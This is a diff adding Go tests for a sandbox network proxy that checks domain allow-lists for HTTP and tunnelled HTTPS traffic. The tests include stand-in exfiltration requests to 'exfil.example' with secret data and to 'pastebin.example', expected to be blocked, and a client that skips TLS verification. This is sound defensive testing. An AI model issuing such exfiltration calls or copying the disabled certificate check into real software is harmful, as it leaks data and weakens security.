@@ -0,0 +1,136 @@
+package sandbox
+
+import (
+	"context"
+	"crypto/tls"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strings"
+	"testing"
+)
+
+func TestMatchDomain(t *testing.T) {
+	tests := []struct {
+		pattern, host string
+		want          bool
+	}{
+		{"proxy.golang.org", "proxy.golang.org", true},
+		{"proxy.golang.org", "PROXY.golang.org:443", true},
+		{"proxy.golang.org", "evil.proxy.golang.org", false},
+		{"*.github.com", "api.github.com", true},
+		{"*.github.com", "a.b.github.com", true},
+		{"*.github.com", "github.com", false},
+		{"*.github.com", "evilgithub.com", false},
+		{"*", "anything.example", true},
+		{"", "example.com", false},
+		{"example.com.", "example.com", true},
+	}
+	for _, tt := range tests {
+		if got := MatchDomain(tt.pattern, tt.host); got != tt.want {
+			t.Errorf("MatchDomain(%q, %q) = %v, want %v", tt.pattern, tt.host, got, tt.want)
+		}
+	}
+}
+
+func startTestProxy(t *testing.T, allow ...string) *NetworkProxy {
+	t.Helper()
+	proxy := NewNetworkProxy(allow)
+	if err := proxy.Start(); err != nil {
+		t.Fatalf("Start: %v", err)
+	}
+	t.Cleanup(func() { proxy.Close() })
+	return proxy
+}
+
+func proxiedClient(proxy *NetworkProxy) *http.Client {
+	proxyURL, _ := url.Parse("http://" + proxy.Addr())
+	return &http.Client{Transport: &http.Transport{
+		Proxy:           http.ProxyURL(proxyURL),
+		TLSClientConfig: &tls.Config{InsecureSkipVerify: true},
+	}}
+}
+
+func TestNetworkProxyHTTP(t *testing.T) {
+	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		io.WriteString(w, "hello")
+	}))
+	defer upstream.Close()
+	port := upstream.URL[strings.LastIndex(upstream.URL, ":")+1:]
+
+	proxy := startTestProxy(t, "localhost")
+	client := proxiedClient(proxy)
+
+	resp, err := client.Get("http://localhost:" + port + "/")
+	if err != nil {
+		t.Fatalf("allowed request: %v", err)
+	}
+	body, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusOK || string(body) != "hello" {
+		t.Errorf("allowed request = %d %q", resp.StatusCode, body)
+	}
+
+	resp, err = client.Get("http://exfil.example/?data=secret")
+	if err != nil {
+		t.Fatalf("blocked request: %v", err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusForbidden {
+		t.Errorf("blocked request status = %d, want 403", resp.StatusCode)
+	}
+}
+
+func TestNetworkProxyConnect(t *testing.T) {
+	upstream := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		io.WriteString(w, "secure")
+	}))
+	defer upstream.Close()
+	port := upstream.URL[strings.LastIndex(upstream.URL, ":")+1:]
+
+	proxy := startTestProxy(t, "*.example.org", "localhost")
+	client := proxiedClient(proxy)
+
+	resp, err := client.Get("https://localhost:" + port + "/")
+	if err != nil {
+		t.Fatalf("allowed tunnel: %v", err)
+	}
+	body, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	if string(body) != "secure" {
+		t.Errorf("allowed tunnel body = %q", body)
+	}
+
+	if _, err := client.Get("https://pastebin.example/"); err == nil || !strings.Contains(err.Error(), "Forbidden") {
+		t.Errorf("blocked tunnel error = %v, want Forbidden", err)
+	}
+}
+
+func TestExecutorNetworkProxy(t *testing.T) {
+	cfg := DefaultConfig()
+	exec := NewExecutor(cfg)
+	defer exec.Close()
+
+	proxy, err := exec.networkProxy()
+	if err != nil || proxy == nil {
+		t.Fatalf("networkProxy = %v, %v", proxy, err)
+	}
+	if !proxy.Allowed("proxy.golang.org:443") || proxy.Allowed("example.com") {
+		t.Error("proxy should enforce sandbox.network.allow")
+	}
+
+	cfg = DefaultConfig()
+	cfg.Sandbox.Network.Isolation = false
+	open := NewExecutor(cfg)
+	if proxy, _ := open.networkProxy(); proxy != nil {
+		t.Error("no proxy expected without network isolation")
+	}
+}
+
+func TestRunBridgeExitCode(t *testing.T) {
+	code, err := RunBridge(context.Background(), "127.0.0.1:0", "/nonexistent.sock", []string{"bash", "-c", "exit 3"})
+	if err != nil || code != 3 {
+		t.Errorf("RunBridge = %d, %v; want 3", code, err)
+	}
+}